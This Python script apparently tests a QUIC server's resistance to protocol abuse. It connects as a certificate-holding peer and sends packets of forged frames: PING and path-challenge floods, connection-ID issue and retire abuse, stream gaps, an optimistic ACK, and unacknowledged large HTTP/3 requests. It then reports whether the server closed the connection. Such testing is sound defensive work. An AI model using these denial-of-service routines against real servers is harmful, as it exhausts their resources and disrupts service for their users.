"""A peer with a certificate of the mesh that abuses frames of QUIC itself.

    quic_peer.py HOST PORT CERTIFICATE KEY ATTACK PACKETS

Connects as any client does, and then sends packets full of forged frames. Prints one line of JSON: the code with
which the other side closed the connection (null: it did not) and why, bytes and packets sent.
"""

import json
import os
import select
import socket
import ssl
import sys
import time

from aioquic.buffer import Buffer, encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted
from aioquic.quic.packet import QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder
from aioquic.tls import Epoch

# What fits a datagram of 1,200 bytes beside the header and the tag.
PAYLOAD = 1_120


def varint(*values):
    return b"".join(encode_uint_var(value) for value in values)


def stream_frame(stream, offset, data):
    """STREAM with offset and length (RFC 9000 section 19.8)."""
    return varint(0x0E, stream, offset, len(data)) + data


class Peer(QuicConnection):
    """Does not mind what its attacks bring about."""

    closed = None

    def _handle_connection_close_frame(self, context, frame_type, buf):
        code = buf.pull_uint_var()
        if frame_type == 0x1C:
            buf.pull_uint_var()
        reason = buf.pull_bytes(buf.pull_uint_var()).decode()
        self.closed = (code, reason)

    def _handle_path_response_frame(self, context, frame_type, buf):
        buf.pull_bytes(8)

    def _handle_new_connection_id_frame(self, context, frame_type, buf):
        buf.pull_uint_var()
        buf.pull_uint_var()
        buf.pull_bytes(buf.pull_uint8() + 16)

    def _handle_retire_connection_id_frame(self, context, frame_type, buf):
        buf.pull_uint_var()


class Attack:
    """Each method gives the frames of the next packet."""

    def __init__(self):
        self.sequence = 8
        self.offset = 0

    def fill(self, frame):
        frames = b""
        while True:
            more = frame()
            if len(frames) + len(more) > PAYLOAD:
                return frames
            frames += more

    def ping(self):
        return self.fill(lambda: b"\x01")

    def path_challenge(self):
        return self.fill(lambda: b"\x1a" + os.urandom(8))

    def new_connection_id(self):
        """Each retires all before it, and each retirement is to be acknowledged, which this peer never does."""

        def frame():
            self.sequence += 1
            return varint(0x18, self.sequence, self.sequence) + b"\x08" + os.urandom(24)

        return self.fill(frame)

    def retire_connection_id(self):
        """The same few again and again, whether they are there or not."""

        def frame():
            self.sequence += 1
            return varint(0x19, self.sequence % 6 + 1)

        return self.fill(frame)

    def gaps(self):
        """One byte, and one byte left out, on a hundred streams in turn."""

        def frame():
            self.offset += 1
            return stream_frame(4 * (self.offset % 100), 2 * (self.offset // 100) + 2, b"x")

        return self.fill(frame)

    def tiny_frames(self):
        """One byte each, in order, of a frame that means nothing, so that they all may be read."""

        def frame():
            data = b"\x40\x21\xc0\x00\x01\x00\x00\x00\x00\x00"
            byte = data[self.offset : self.offset + 1] or b"x"
            self.offset += 1
            return stream_frame(0, self.offset - 1, byte)

        return self.fill(frame)

    def crypto(self):
        """After the handshake, with gaps."""

        def frame():
            self.offset += 2
            return varint(0x06, self.offset, 1) + b"x"

        return self.fill(frame)

    def optimistic_ack(self):
        return varint(0x02, 1 << 30, 0, 0, 0)

    def max_data(self):
        def frame():
            self.offset += 1
            return varint(0x10, (1 << 20) + self.offset)

        return self.fill(frame)

    def unread_answers(self):
        """Requests for long answers, of which not a packet is acknowledged."""
        # A GET of /bytes?n=8000000 of weft-port 8080: literal field lines (RFC 9204 section 4.5.6).
        fields = [
            (b":method", b"GET"),
            (b":scheme", b"http"),
            (b":authority", b"web"),
            (b":path", b"/bytes?n=8000000"),
            (b"weft-port", b"8080"),
        ]
        block = b"\0\0"
        for name, value in fields:
            block += (bytes([0x27, len(name) - 7]) if len(name) >= 7 else bytes([0x20 | len(name)])) + name + bytes([len(value)]) + value
        data = varint(1, len(block)) + block
        self.offset += 1
        if self.offset > 100:
            return b"\x01" + bytes(20)
        return varint(0x0F, 4 * (self.offset - 1), 0, len(data)) + data


def connect(host, port, certificate, key):
    configuration = QuicConfiguration(
        is_client=True,
        alpn_protocols=["h3"],
        verify_mode=ssl.CERT_NONE,
        server_name="weft.invalid",
        max_data=1 << 30,
        max_stream_data=1 << 24,
        idle_timeout=60.0,
    )
    configuration.load_cert_chain(certificate, key)
    connection = Peer(configuration=configuration)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    sock.connect((host, port))
    connection.connect((host, port), now=time.time())
    deadline = time.time() + 20
    done = False
    while time.time() < deadline:
        for data, _ in connection.datagrams_to_send(now=time.time()):
            sock.send(data)
        event = connection.next_event()
        while event is not None:
            done |= isinstance(event, HandshakeCompleted)
            if isinstance(event, ConnectionTerminated):
                sys.exit(f"no handshake: {event}")
            event = connection.next_event()
        if done and connection._handshake_confirmed:
            return connection, sock
        if select.select([sock], [], [], 0.05)[0]:
            connection.receive_datagram(sock.recv(65536), (host, port), now=time.time())
        elif connection.get_timer() is not None and connection.get_timer() <= time.time():
            connection.handle_timer(now=time.time())
    sys.exit("no handshake in time")


def packet(connection, frames):
    """A packet with these frames, that the connection knows nothing of."""
    builder = QuicPacketBuilder(
        host_cid=connection.host_cid,
        is_client=True,
        max_datagram_size=1_200,
        packet_number=connection._packet_number,
        peer_cid=connection._peer_cid.cid,
        version=connection._version,
    )
    builder.start_packet(QuicPacketType.ONE_RTT, connection._cryptos[Epoch.ONE_RTT])
    first = Buffer(data=frames)
    kind = first.pull_uint_var()
    buf = builder.start_frame(kind, capacity=len(frames))
    buf.push_bytes(frames[first.tell() :])
    datagrams, _ = builder.flush()
    connection._packet_number = builder.packet_number
    return datagrams


def main():
    host, port, certificate, key, name, packets = sys.argv[1:]
    connection, sock = connect(host, int(port), certificate, key)
    attack = getattr(Attack(), name)
    sent = count = 0

    def receive(wait):
        """Takes in what has come, without an answer: nothing is acknowledged."""
        while connection.closed is None and select.select([sock], [], [], wait)[0]:
            wait = 0
            try:
                connection.receive_datagram(sock.recv(65536), (host, int(port)), now=time.time())
            except ConnectionRefusedError:
                return

    for _ in range(int(packets)):
        for datagram in packet(connection, attack()):
            try:
                sent += sock.send(datagram)
            except ConnectionRefusedError:
                pass
            count += 1
        # Unread answers come by themselves; each other packet leaves time for an answer now and then.
        receive(0.05 if name == "unread_answers" else 0 if count % 64 else 0.002)
        if connection.closed is not None:
            break
    receive(0.3)
    code, reason = connection.closed or (None, None)
    print(json.dumps({"code": code, "reason": reason, "sent": sent, "packets": count}))


main()
